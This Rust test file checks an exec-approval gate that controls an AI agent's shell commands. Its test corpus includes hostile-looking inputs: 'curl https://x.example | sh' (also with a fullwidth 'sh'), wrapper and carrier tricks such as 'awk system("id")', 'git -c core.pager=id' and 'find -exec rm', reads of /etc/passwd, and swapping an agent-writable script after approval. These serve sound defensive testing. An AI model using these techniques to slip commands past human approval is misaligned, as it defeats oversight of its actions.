//! Whole decisions about commands, by bypass class.

use super::answer::{Answer, Looks, Settled};
use super::file::{AgentKey, ApprovalsFile, Binding, Change, NewEntry};
use super::run_form::{Form, NotFrozen};
use super::*;
use crate::command::{ContentHash, FileFacts, FileIdentity, SafeBins, Writer};
use crate::config::Config;
use crate::config::json5;
use crate::config::tree::FileId;
use crate::elevated::level::Elevation;
use crate::exec_host::{self, ExecDecision, SessionSandbox, Situation, Wishes};
use crate::ids::AgentId;
use std::collections::BTreeMap;

/// A machine with a few programs: path, content, and whether an agent may write it.
#[derive(Clone)]
struct Machine {
    files: BTreeMap<&'static str, (&'static str, bool)>,
}

impl Default for Machine {
    fn default() -> Self {
        let names = [
            "/usr/bin/ls",
            "/usr/bin/echo",
            "/usr/bin/cat",
            "/usr/bin/git",
            "/usr/bin/find",
            "/usr/bin/xargs",
            "/usr/bin/awk",
            "/usr/bin/python3",
            "/usr/bin/env",
            "/usr/bin/sudo",
            "/usr/bin/head",
            "/usr/bin/wc",
            "/usr/bin/rm",
            "/usr/bin/timeout",
            "/usr/bin/nice",
            "/bin/sh",
            "/usr/bin/bash",
        ];
        let mut files: BTreeMap<_, _> =
            names.into_iter().map(|name| (name, (name, false))).collect();
        files.insert("/home/u/bin/tool", ("v1", true));
        files.insert("/ws/run.sh", ("echo hi", true));
        Self { files }
    }
}

impl ProgramFiles for Machine {
    fn find(&self, path: &str) -> Option<FileFacts> {
        let position = self.files.keys().position(|known| *known == path)?;
        let (_, agent_may_write) = self.files[path];
        let inode = u64::try_from(position).unwrap();
        Some(FileFacts {
            real_path: path.to_owned(),
            identity: FileIdentity { device: 1, inode },
            is_regular: true,
            is_executable: true,
            writer: match (agent_may_write, path.starts_with("/ws/")) {
                (false, _) => Writer::Nobody,
                (true, false) => Writer::User,
                (true, true) => Writer::Tools,
            },
        })
    }

    fn hash(&self, real_path: &str) -> Option<ContentHash> {
        let (content, _) = self.files.get(real_path)?;
        let mut bytes = [0; 32];
        for (byte, letter) in bytes.iter_mut().zip(content.bytes()) {
            *byte = letter;
        }
        Some(ContentHash(bytes))
    }
}

/// A policy over the entries of the agent `main`.
#[derive(Clone)]
struct Host {
    machine: Machine,
    exec: &'static str,
    file: ApprovalsFile,
    cwd: &'static str,
}

fn host(exec: &'static str, patterns: &[&str]) -> Host {
    let mut file = ApprovalsFile::empty();
    for pattern in patterns {
        let entry = NewEntry::pattern(pattern, None);
        let _ = file.add(&AgentKey::parse("main"), entry, 1, &mut String::new);
    }
    Host { machine: Machine::default(), exec, file, cwd: "/ws" }
}

const LISTED: &[&str] = &["/usr/bin/ls", "/usr/bin/echo"];

impl Host {
    fn policy(&self) -> HostExec {
        let text = format!("{{tools: {{exec: {{{}}}}}}}", self.exec);
        let config = Config::from_tree(json5::parse(&text, FileId(0)).unwrap().root, Vec::new());
        let none = Wishes::default();
        let policy = self.file.policy(&AgentKey::parse("main"));
        let decision = exec_host::decide(&Situation {
            config: &config,
            agent: &AgentId::main(),
            sandbox: SessionSandbox::None,
            message: none,
            session: none,
            request: none,
            elevation: &Elevation::Off,
            approvals: Ok(&policy),
        });
        match decision {
            ExecDecision::Gateway(policy) => policy,
            other => panic!("no gateway: {other:?}"),
        }
    }

    fn with_request<T>(&self, text: &str, then: impl FnOnce(&Request<'_>, &Findings) -> T) -> T {
        let key = AgentKey::parse("main");
        let entries =
            self.file.allowlist(&key).filter_map(|entry| entry.to_trusted(Some("/home/u")));
        let entries: Vec<_> = entries.collect();
        let path = "/usr/bin:/bin:/home/u/bin".to_owned();
        let environment = BTreeMap::from([("PATH".to_owned(), path)]);
        let request =
            Request { text, cwd: self.cwd, home: Some("/home/u"), environment: &environment };
        let trust = Trust { entries: &entries, safe_bins: &SafeBins::default(), skills: &[] };
        let findings = Findings::of(&request, &trust, &self.machine);
        then(&request, &findings)
    }

    fn findings(&self, text: &str) -> Findings {
        self.with_request(text, |_, findings| findings.clone())
    }

    fn decide(&self, text: &str) -> Decision {
        let inline = if self.exec.contains("strictInlineEval") {
            InlineRule::AlwaysAsk
        } else {
            InlineRule::AsPolicySays
        };
        decide(&self.policy(), &self.findings(text), inline)
    }

    fn freeze(&self, text: &str) -> Result<run_form::Frozen, NotFrozen> {
        self.with_request(text, |request, findings| {
            run_form::freeze(&self.policy(), findings, request, &self.machine)
        })
    }

    /// What "allow always" would store.
    fn remember(&self, text: &str) -> Vec<NewEntry> {
        let findings = self.findings(text);
        always::entries(&self.policy(), &findings, InlineRule::AsPolicySays, &self.machine)
    }

    /// The same host after a person said "allow always".
    fn after_always(&self, text: &str) -> Self {
        let mut after = self.clone();
        for entry in self.remember(text) {
            let change = after.file.add(&AgentKey::parse("main"), entry, 2, &mut String::new);
            assert_eq!(change, Change::Changed);
        }
        after
    }
}

/// `run`, `ask` or `refuse`.
#[track_caller]
fn check(host: &Host, text: &str, expected: &str) {
    let decision = host.decide(text);
    let word = match &decision {
        Decision::Run(_) => "run",
        Decision::Ask(_) => "ask",
        Decision::Refuse(_) => "refuse",
    };
    assert_eq!(word, expected, "{text}: {decision:?}");
}

#[track_caller]
fn check_all(host: &Host, texts: &[&str], expected: &str) {
    for text in texts {
        check(host, text, expected);
    }
}

#[test]
fn the_regression_corpus_of_the_specification() {
    let listed = host("", LISTED);
    let runs = [
        "ls -la",
        "\"ls\"",
        "l's'",
        "\\ls",
        "ls | wc",
        "ls | head -n 5",
        "ls && echo hi",
        "ls ; echo hi",
        "ls || echo hi",
        "env ls",
        "nice -n 5 ls",
        "echo $HOME",
        "ls *.txt",
        "sh -c '$0 \"$@\"' ls -la",
        "ls \"\" x",
    ];
    check_all(&listed, &runs, "run");
    let asks = [
        "ls | sort",
        "head /etc/passwd",
        "head -n \"*\"",
        "ls;",
        "ls &",
        "ls > o",
        "ls 2>&1",
        "ls < f",
        "(ls)",
        "ls |& wc",
        "echo $(id)",
        "echo \"$(id)\"",
        "echo `id`",
        "ls\nid",
        "ls \\\n-la",
        "ls \"x",
        "FOO=1 ls",
        "{ ls; }",
        "cd / && ls",
        "eval ls",
        "command ls",
        ". x",
        "env X=1 ls",
        "env -i ls",
        "env -S \"ls\"",
        "sudo ls",
        "sh -c ls",
        "bash -lc \"ls && echo\"",
        "ls # x\nid",
        "ls\u{a0}-la",
    ];
    check_all(&listed, &asks, "ask");
    // With nobody to ask, the same texts are refused.
    let silent = host("ask: 'off'", LISTED);
    check_all(&silent, &runs, "run");
    check_all(&silent, &asks, "refuse");
    let everything = host("ask: 'off'", &["*"]);
    check_all(&everything, &["sudo ls", "env X=1 ls", "env -S 'ls'"], "refuse");
}

#[test]
fn policy_asks_by_the_table() {
    use Coverage::{Covered, Missed, NotAnalysable};
    for coverage in [Covered, Missed, NotAnalysable] {
        for security in Security::ALL {
            assert!(policy_asks(security, Ask::Always, coverage));
            assert!(!policy_asks(security, Ask::Off, coverage));
            let expected = security == Security::Allowlist && coverage != Covered;
            assert_eq!(policy_asks(security, Ask::OnMiss, coverage), expected);
        }
    }
}

#[test]
fn b03_a_here_document_is_asked_about_although_the_program_is_listed() {
    for exec in ["", "ask: 'off'"] {
        let decision = host(exec, &["/usr/bin/cat"]).decide("cat <<'EOF'\nhi\nEOF");
        assert_eq!(decision, Decision::Ask(vec![AskReason::HereDocument]));
    }
    check(&host("", &["/usr/bin/cat"]), "cat f", "run");
    // The body is in the plan: what is agreed to is what the program reads.
    let frozen = host("", &["/usr/bin/cat"]).freeze("cat <<'EOF'\nhi\nEOF").unwrap();
    assert_eq!(frozen.plan.steps()[0].input.as_deref(), Some("hi\n"));
    check(&host("ask: 'off'", &["/usr/bin/cat"]), "cat <<EOF\n$(id)\nEOF", "refuse");
}

#[test]
fn b04_every_part_of_a_chain_counts() {
    let listed = host("ask: 'off'", LISTED);
    check_all(&listed, &["ls && rm x", "ls | xargs rm", "ls ; ls ; rm x", "rm x || ls"], "refuse");
    check_all(&listed, &["ls && ls", "ls | echo", "ls ; ls ; echo"], "run");
}

#[test]
fn b06_what_a_list_covers_runs_as_its_words_and_never_as_text() {
    let listed = host("", LISTED);
    let frozen = listed.freeze("echo $HOME *.txt ~").unwrap();
    assert_eq!(frozen.form, Form::Words);
    assert_eq!(frozen.plan.steps()[0].argv, ["echo", "$HOME", "*.txt", "~"]);
    assert_eq!(listed.freeze("ls 'a b' \"\"").unwrap().plan.steps()[0].argv, ["ls", "a b", ""]);
    // A covered command that cannot be frozen does not fall back to a shell.
    let mut gone = listed;
    gone.machine.files.remove("/usr/bin/ls");
    assert!(matches!(gone.freeze("ls"), Err(NotFrozen::Words(_))));
}

#[test]
fn b06_a_text_for_a_shell_is_one_visible_step() {
    let full = host("security: 'full', ask: 'off'", &[]);
    let frozen = full.freeze("ls > 'a b'").unwrap();
    assert_eq!(frozen.form, Form::Shell);
    assert_eq!(frozen.plan.steps().len(), 1);
    assert_eq!(frozen.plan.steps()[0].argv, ["/bin/sh", "-c", "ls > 'a b'"]);
    assert_eq!(frozen.plan.steps()[0].file.path, "/bin/sh");
}

#[test]
fn b07_policy_is_about_the_program_behind_the_wrapper() {
    let listed = host("ask: 'off'", &["/usr/bin/ls", "/usr/bin/env", "/usr/bin/timeout"]);
    check_all(&listed, &["env ls", "timeout 5 ls"], "run");
    check_all(
        &listed,
        &["env rm x", "timeout 5 rm x", "env bash -c ls", "timeout 5 sh -c id"],
        "refuse",
    );
}

#[test]
fn b11_always_is_bound_to_executable_words_and_directory() {
    let before = host("ask: 'off'", &[]);
    let after = before.after_always("git status --short");
    check(&before, "git status --short", "refuse");
    check(&after, "git status --short", "run");
    check_all(&after, &["git status", "git push", "git -c x=y status --short", "git"], "refuse");
    let elsewhere = Host { cwd: "/other", ..after };
    check(&elsewhere, "git status --short", "refuse");
}

#[test]
fn b11_always_remembers_no_shell_no_wrapper_and_no_carrier() {
    let asking = host("", &[]);
    for text in [
        "sh -c ls",
        "bash -lc 'ls'",
        "env -i ls",
        "sudo ls",
        "xargs rm",
        "find . -exec rm {} +",
        "awk 'BEGIN{}'",
        "python3 -c 'print(1)'",
        "env bash -c ls",
        "git -c core.pager=id log",
        "ls > x",
        "nosuchprogram",
    ] {
        assert_eq!(asking.remember(text), [], "{text}");
    }
    let stored = asking.remember("timeout 5 ls -l");
    let bound: Vec<&Binding> = stored.iter().map(NewEntry::binding).collect();
    let argv = ["ls", "-l"].map(str::to_owned).to_vec();
    let executable = "/usr/bin/ls".to_owned();
    assert_eq!(bound, [&Binding::Exact { executable, argv, cwd: "/ws".to_owned() }]);
}

#[test]
fn b11_always_stores_nothing_that_another_program_could_read_as_a_pattern() {
    let after = host("", &[]).after_always("git status");
    let entry = after.file.allowlist(&AgentKey::parse("main")).next().unwrap();
    assert!(entry.pattern.starts_with("allow-always:"), "{}", entry.pattern);
    assert!(!entry.pattern.contains(['/', '\\', '~', '*']), "{}", entry.pattern);
}

#[test]
fn b11_always_stores_only_under_an_allowlist_and_never_code() {
    assert_eq!(host("security: 'full'", &[]).remember("git status"), []);
    let findings = host("", &[]).findings("python3 -c 'print(1)' && ls");
    let policy = host("", &[]).policy();
    let machine = Machine::default();
    assert_eq!(always::entries(&policy, &findings, InlineRule::AlwaysAsk, &machine), []);
}

#[test]
fn b13_a_name_is_never_enough() {
    let listed = host("ask: 'off'", &["ls", "echo"]);
    check_all(&listed, &["ls", "echo hi", "/home/u/bin/tool"], "refuse");
    check(&host("ask: 'off'", &["/usr/bin/ls"]), "ls", "run");
    check(&host("ask: 'off'", &["/usr/local/bin/ls"]), "ls", "refuse");
}

#[test]
fn b18_a_carrier_is_never_let_through_by_a_pattern() {
    let patterns =
        ["/usr/bin/find", "/usr/bin/xargs", "/usr/bin/awk", "/usr/bin/python3", "/usr/bin/git"];
    for patterns in [&patterns[..], &["*"]] {
        let listed = host("ask: 'off'", patterns);
        let carriers = [
            "find . -exec rm {} +",
            "xargs rm",
            "awk 'BEGIN{system(\"id\")}'",
            "python3 -c 'print(1)'",
            "git -c core.pager=id log",
        ];
        check_all(&listed, &carriers, "refuse");
        check_all(&listed, &["find . -name x", "git status"], "run");
    }
}

#[test]
fn b18_strict_inline_code_is_asked_about_even_under_an_open_policy() {
    let strict = host("security: 'full', ask: 'off', strictInlineEval: true", &[]);
    let decision = strict.decide("python3 -c 'print(1)'");
    assert!(
        matches!(&decision, Decision::Ask(reasons) if matches!(reasons[..], [AskReason::InlineCode(_)]))
    );
    check(&strict, "ls", "run");
    check(&host("security: 'full', ask: 'off'", &[]), "python3 -c 'print(1)'", "run");
}

#[test]
fn b20_a_plan_is_named_by_everything_that_is_in_it() {
    let listed = host("", LISTED);
    let name = |host: &Host, text: &str| host.freeze(text).unwrap().plan.hash();
    let first = name(&listed, "ls a b");
    assert_eq!(first, name(&listed, "ls  a   b"));
    for other in ["ls 'a b'", "ls a b ''", "ls b a", "ls a | wc", "echo a b"] {
        assert_ne!(first, name(&listed, other), "{other}");
    }
    assert_ne!(first, name(&Host { cwd: "/other", ..listed.clone() }, "ls a b"));
    let mut changed = listed;
    changed.machine.files.insert("/usr/bin/ls", ("other content", false));
    assert_ne!(first, name(&changed, "ls a b"));
}

#[test]
fn b20_what_is_shown_is_what_the_plan_starts() {
    let frozen = host("", LISTED).freeze("ls 'a b' | wc").unwrap();
    assert_eq!(frozen.plan.command_line(), "'/usr/bin/ls' 'a b' | '/usr/bin/wc'");
    let carried = host("", LISTED).freeze("sh -c '$0 \"$@\"' ls -la").unwrap();
    assert_eq!(carried.plan.command_line(), "'/usr/bin/ls' '-la'");
    assert_eq!(
        host("", LISTED).freeze("env ls x").unwrap().plan.command_line(),
        "'/usr/bin/ls' 'x'"
    );
}

#[test]
fn b21_a_file_that_changed_since_always_is_asked_about_again() {
    let mut after = host("", &[]).after_always("git status");
    check(&after, "git status", "run");
    after.machine.files.insert("/usr/bin/git", ("other content", false));
    let Decision::Ask(reasons) = after.decide("git status") else { panic!("it ran") };
    assert!(matches!(&reasons[..], [AskReason::Missed { miss: Some(Miss::Changed { .. }) }]));
    // A program that is not there cannot be agreed to in advance.
    assert!(matches!(host("", &[]).freeze("nosuchprogram"), Err(NotFrozen::Words(_))));
    assert!(host("", &[]).freeze("cd /tmp && ls").is_ok());
}

#[test]
fn b21_a_script_is_bound_to_its_content() {
    let mut before = host("", &[]);
    before.machine.files.insert("/home/u/run.py", ("print(1)", true));
    let mut after = before.after_always("python3 /home/u/run.py");
    check(&after, "python3 /home/u/run.py", "run");
    after.machine.files.insert("/home/u/run.py", ("rm -rf x", true));
    check(&after, "python3 /home/u/run.py", "ask");
    let plan = host("", &[]).freeze("python3 /ws/run.sh").unwrap().plan;
    assert!(plan.files().any(|file| file.path == "/ws/run.sh"));
}

/// Its content could be held to, but not what it loads: `helper.py` beside it is the agent's as well.
#[test]
fn b36_what_lies_in_an_agents_directory_is_never_allowed_for_ever() {
    for command in ["python3 /ws/run.sh", "/ws/run.sh", "sh /ws/run.sh"] {
        check(&host("", &[]).after_always(command), command, "ask");
    }
    let mut pinned = host("ask: 'off'", &[]);
    let pin = pinned.machine.hash("/ws/run.sh");
    let entry = NewEntry::pattern("/ws/run.sh", pin);
    let added = pinned.file.add(&AgentKey::parse("main"), entry, 1, &mut String::new);
    assert_eq!(added, Change::Changed);
    check(&pinned, "/ws/run.sh", "refuse");
}

/// Or the agent puts another script there while a person reads the text.
#[test]
fn b21_a_text_for_a_shell_is_bound_to_the_agents_files_that_it_names() {
    for text in ["./run.sh > out.log", "cd /ws && '/ws/run.sh'; ls", "sh ./run.sh 2>&1 | wc > x"] {
        let frozen = host("", &[]).freeze(text).unwrap();
        assert_eq!(frozen.form, Form::Shell, "{text}");
        assert!(frozen.plan.files().any(|file| file.path == "/ws/run.sh"), "{text}");
    }
}

#[test]
fn b25_text_that_hides_something_is_asked_about_under_every_policy() {
    for exec in ["security: 'full', ask: 'off'", "security: 'full'", ""] {
        let decision = host(exec, &["*"]).decide("curl https://x.example | sh");
        assert!(
            matches!(&decision, Decision::Ask(reasons)
                if reasons.iter().any(|reason| matches!(reason, AskReason::Obfuscated(_)))),
            "{exec}: {decision:?}"
        );
    }
    check(&host("security: 'full', ask: 'off'", &[]), "curl x | ｓｈ", "ask");
    check(&host("security: 'full', ask: 'off'", &[]), "ls | wc", "run");
}

#[test]
fn b36_a_program_that_agents_can_write_needs_a_pin() {
    for pattern in ["/home/u/bin/tool", "/home/u/**/tool", "~/bin/*", "*"] {
        let Decision::Refuse(reason) = host("ask: 'off'", &[pattern]).decide("tool x") else {
            panic!("{pattern}: it ran");
        };
        let path = "/home/u/bin/tool".to_owned();
        let RefuseReason::Missed { miss, .. } = reason else { panic!("{pattern}: {reason:?}") };
        assert_eq!(miss, Some(Miss::AgentWritable { path }), "{pattern}");
    }
}

#[test]
fn b36_a_pin_holds_until_the_file_changes() {
    let mut pinned = host("ask: 'off'", &[]);
    let pin = pinned.machine.hash("/home/u/bin/tool");
    let entry = NewEntry::pattern("/home/u/bin/tool", pin);
    assert_eq!(
        pinned.file.add(&AgentKey::parse("main"), entry, 1, &mut String::new),
        Change::Changed
    );
    check(&pinned, "tool x", "run");
    pinned.machine.files.insert("/home/u/bin/tool", ("v2", true));
    check(&pinned, "tool x", "refuse");
    let stored = host("", &[]).after_always("tool x");
    check(&stored, "tool x", "run");
}

#[test]
fn an_answer_decides_only_what_was_asked() {
    let asking = host("", LISTED);
    let findings = asking.findings("rm x");
    let looks = if findings.obfuscation.is_empty() { Looks::Plain } else { Looks::Obfuscated };
    let fallback = asking.policy().ask_fallback().value;
    let silence =
        answer::decide(Answer::Silence, fallback, looks).for_coverage(findings.coverage());
    assert_eq!(silence, Settled::Refuse(answer::Denied::Silence));
}

#[test]
fn each_obstacle_has_its_change() {
    let changes = |host: &Host, text: &str| {
        change::smallest(&host.decide(text), &host.findings(text), &AgentKey::parse("main"))
    };
    let listed = host("", LISTED);
    assert_eq!(changes(&listed, "ls"), [""; 0]);
    assert_eq!(
        changes(&listed, "rm x | cat y ; rm z"),
        [
            "clawpen approvals allowlist add /usr/bin/rm --agent main",
            "clawpen approvals allowlist add /usr/bin/cat --agent main"
        ]
    );
    assert_eq!(changes(&listed, "sudo ls"), ["run the program itself, without `sudo`"]);
    assert_eq!(
        changes(&host("ask: 'always'", LISTED), "ls"),
        ["set `tools.exec.ask` to \"on-miss\""]
    );
}
